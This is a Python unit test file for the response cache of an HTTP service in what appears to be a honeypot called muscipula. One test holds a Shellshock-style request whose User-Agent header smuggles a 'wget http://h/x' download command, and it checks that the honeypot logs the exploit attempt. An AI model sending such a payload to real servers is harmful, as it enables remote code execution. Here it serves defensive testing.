"""Repeated identical requests reuse their answer within a second, and only then."""

from __future__ import annotations

import tempfile
from pathlib import Path

from muscipula import config as configmod
from muscipula import services
from muscipula.machine import Peer, Send
from muscipula.protocols.http.request import http_date
from tests.unit.http_helpers import NOW, Conn, factory

GET = b"GET / HTTP/1.1\r\nHost: h\r\n\r\n"


def test_repeats_in_one_second_get_the_same_bytes_and_each_is_recorded():
    c = Conn()
    first = c.send(GET)
    sends = [a for a in c.m.receive(GET, NOW + 0.5) if isinstance(a, Send)]
    assert sends[0].data == first
    again = c.send(GET + GET)  # pipelined repeats, found after framing
    assert again == first + first
    assert len(c.emitted("http.request")) == 3  # the reused one was not collected by c
    assert c.m.count == 4


def test_a_new_second_gets_a_new_date():
    c = Conn()
    first = c.send(GET)
    later = c.send(GET, dt=1.0)
    assert http_date(NOW).encode() in first
    assert http_date(NOW + 1).encode() in later
    assert first.replace(http_date(NOW).encode(), http_date(NOW + 1).encode()) == later


def test_the_request_budget_still_closes_a_reused_answer():
    c = Conn(max_requests_per_connection=3)
    for _ in range(2):
        assert b"Connection: close" not in c.send(GET)
    assert not c.closed
    assert b"Connection: close" in c.send(GET)
    assert c.closed


def test_close_requests_are_reused_and_still_close():
    make = factory()
    req = b"GET / HTTP/1.1\r\nHost: h\r\nConnection: close\r\n\r\n"
    answers = []
    for _ in range(3):
        c = Conn()
        c.m = make()
        answers.append(c.send(req))
        assert c.closed
    assert answers[0] == answers[1] == answers[2]
    assert len(c.m.answers) == 1


def test_exploits_and_logins_are_never_reused():
    c = Conn()
    shock = b"GET /cgi-bin/a HTTP/1.1\r\nHost: h\r\nUser-Agent: () { :; }; wget http://h/x\r\n\r\n"
    basic = b"GET / HTTP/1.1\r\nHost: h\r\nAuthorization: Basic YWRtaW46c2VjcmV0\r\n\r\n"
    for _ in range(3):
        c.send(shock)
        c.send(basic)
    assert len(c.emitted("http.exploit")) == 3
    assert len(c.emitted("download.offer")) == 3
    assert [x["password"] for x in c.emitted("login")] == ["secret"] * 3
    assert len(c.m.answers) == 0


def test_the_cache_holds_at_most_its_entries():
    c = Conn(answer_cache_entries=4)
    for i in range(10):
        c.send(b"GET /p%d HTTP/1.1\r\nHost: h\r\n\r\n" % i)
    assert len(c.m.answers) == 4
    assert set(c.m.answers.answers) == {b"GET /p%d HTTP/1.1\r\nHost: h\r\n\r\n" % i
                                        for i in range(6, 10)}


def test_size_bounds_and_off_switch():
    c = Conn(answer_cache_max_head=20)
    c.send(GET)
    assert len(c.m.answers) == 0
    c = Conn(answer_cache_max_reply=100)
    c.send(GET)
    assert len(c.m.answers) == 0
    c = Conn(answer_cache_entries=0)
    c.send(GET)
    c.send(GET)
    assert len(c.m.answers) == 0 and len(c.emitted("http.request")) == 2


def test_answers_differ_per_scheme_and_port():
    cfg = configmod.load(extra={"persona": {"preset": "windows-2008r2"}})
    make = services.factory("http", cfg, Path(tempfile.mkdtemp(prefix="http-unit-")))
    plain = make(Peer("127.0.0.1", 80, "127.0.0.9", 40000, "tcp"))
    tls = make(Peer("127.0.0.1", 443, "127.0.0.9", 40001, "tls"))
    other = make(Peer("127.0.0.1", 80, "127.0.0.9", 40002, "tcp"))
    assert plain.answers is other.answers and plain.answers is not tls.answers
    plain.svc.site.dirs.add("/docs/")
    moved = b"GET /docs HTTP/1.1\r\nHost: h\r\n\r\n"  # the redirect names the scheme

    def answer(m):
        return b"".join(a.data for a in m.receive(moved, NOW) if isinstance(a, Send))

    assert b"Location: http://h/docs/" in answer(plain)
    assert b"Location: https://h/docs/" in answer(tls)
    assert b"Location: http://h/docs/" in answer(other)
